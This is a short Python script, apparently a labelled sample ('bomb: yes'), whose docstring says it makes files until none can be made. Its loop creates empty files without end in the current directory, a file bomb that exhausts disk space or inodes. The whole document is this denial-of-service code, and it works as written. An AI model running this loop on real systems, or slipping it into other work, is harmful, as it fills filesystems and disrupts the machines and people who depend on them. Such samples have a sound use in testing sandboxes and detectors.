"""Makes files until none can be made.

bomb: yes
"""

i = 0
while True:
    open(f"f{i}", "w").close()
    i += 1
